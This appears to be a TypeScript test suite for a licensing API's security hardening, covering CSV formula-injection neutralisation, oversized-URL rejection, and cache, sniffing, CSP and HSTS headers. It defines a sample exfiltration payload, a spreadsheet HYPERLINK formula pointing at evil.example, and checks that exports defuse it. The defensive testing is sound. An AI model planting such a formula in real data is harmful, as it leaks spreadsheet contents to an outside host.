import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { it } from 'node:test';
import { csvText } from '../../src/domain/csv.ts';
import { bulkWithKeys } from '../support/bulk-fixtures.ts';
import { apiKey, assertProblem, created } from '../support/fixtures.ts';
import { PortalClient } from '../support/portal-client.ts';
import { describeEachBackend } from '../support/suite.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** The raw answer to a GET with a path of `length` characters, for what Node's parser refuses itself. */
function rawGet(baseUrl: string, path: string): Promise<{ status: number; type: string; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(`${baseUrl}${path}`, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => {
        body += chunk;
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, type: res.headers['content-type'] ?? '', body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** No cell of the CSV text starts a formula, quoted or not. */
function assertNoFormulaCells(csv: string): void {
  for (const line of csv.split('\n'))
    assert.doesNotMatch(line, /(^|,)"?[=+\-@\t\r]/, `a cell of "${line}" starts a formula`);
}

it('the CSV writer neutralises every cell a spreadsheet would run as a formula (OWASP)', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const text = csvText([[`${start}1+2`, 'plain', -3, null]]);
    assert.ok(text.includes(`'${start}1+2`), JSON.stringify(text));
    assertNoFormulaCells(text.replace(/,-3,/, ',3,'));
    assert.ok(text.includes(',-3,'), 'numbers stay numbers');
  }
});

describeEachBackend('hostile input at the edges', (server) => {
  it('answers a URL over 16 KB with a 431 problem document', async () => {
    const { url } = server();
    const r = await rawGet(url, `/api/v1/entitlements?q=${'a'.repeat(17 * 1024)}`);
    assert.equal(r.status, 431);
    assert.match(r.type, /application\/problem\+json/);
    const problem = JSON.parse(r.body);
    assert.equal(problem.code, 'HEADERS_TOO_LARGE');
    assert.equal(problem.status, 431);
  });

  it('keeps secrets out of caches and sniffers: API keys, activations, licences', async () => {
    const { api } = server();
    const keyAnswer = await api.post('/api-keys', { role: 'operator' });
    assert.equal(keyAnswer.status, 201);
    assert.equal(keyAnswer.headers.get('cache-control'), 'no-store');
    assert.equal(keyAnswer.headers.get('x-content-type-options'), 'nosniff');
    const { keys } = await bulkWithKeys(api, { generate: 1 });
    const device = api.as(null);
    const activated = await device.post('/activations', { code: keys[0], fingerprint: 'fp-headers-1' });
    assert.equal(activated.status, 201, activated.text);
    assert.equal(activated.headers.get('cache-control'), 'no-store');
    assert.equal(activated.headers.get('x-content-type-options'), 'nosniff');
    const license = await api.get(`/activations/${activated.body.activation.id}/license`);
    assert.equal(license.status, 200);
    assert.equal(license.headers.get('cache-control'), 'no-store');
    const problem = await api.get('/entitlements/nope');
    assertProblem(problem, 404, 'NOT_FOUND');
    assert.equal(problem.headers.get('x-content-type-options'), 'nosniff', 'every answer, errors too');
    assert.equal(problem.headers.get('strict-transport-security'), null, 'no HSTS unless served over https');
  });

  it('gives the API documentation a Content-Security-Policy that forbids framing', async () => {
    const { url } = server();
    for (const path of ['/docs', '/docs/static/index.html']) {
      const r = await fetch(`${url}${path}`);
      assert.equal(r.status, 200, path);
      const csp = r.headers.get('content-security-policy') ?? '';
      assert.match(csp, /frame-ancestors 'none'/, path);
      assert.match(csp, /script-src 'self'(;|$)/, path);
    }
  });

  it('neutralises a partner-chosen formula in every billing CSV (API and portal)', async () => {
    const { api, url } = server();
    const { partner, keys } = await bulkWithKeys(api, { generate: 1 });
    const partnerApi = api.as(await apiKey(api, 'partner', partner.id));
    const redeemed = await created(partnerApi.post(`/web-register-keys/${keys[0]}/redeem`, { accountName: FORMULA }));
    const code = redeemed.lineItems[0]!.activationId;
    await created(api.as(null).post('/activations', { code, fingerprint: 'fp-formula-1' }));
    const today = new Date().toISOString().slice(0, 10);
    const query = `groupBy=account&period=month&from=${today}&to=${today}`;
    const csv = await api.get(`/reports/activations?${query}`, { headers: { accept: 'text/csv' } });
    assert.equal(csv.status, 200);
    assert.ok(csv.text.includes(`"'=HYPERLINK(""http://evil.example/`), csv.text);
    assertNoFormulaCells(csv.text);
    const admin = await PortalClient.as(api, url, 'admin');
    const portalCsv = await admin.get(`/portal/reports.csv?${query}`);
    assert.equal(portalCsv.status, 200);
    assert.equal(portalCsv.html, csv.text, 'the portal gives the same file');
    const listing = await admin.get(`/portal/entitlements.csv?account=${redeemed.soldTo}`);
    assert.equal(listing.status, 200);
    assert.ok(listing.html.includes(`'=HYPERLINK`), listing.html);
    assertNoFormulaCells(listing.html);
  });
});

describeEachBackend(
  'headers behind an https public address',
  (server) => {
    it('sends Strict-Transport-Security', async () => {
      const r = await server().api.get('/entitlements');
      assert.equal(r.status, 200);
      assert.match(r.headers.get('strict-transport-security') ?? '', /^max-age=\d{7,}/);
    });
  },
  { publicUrl: 'https://licences.example.com' },
);
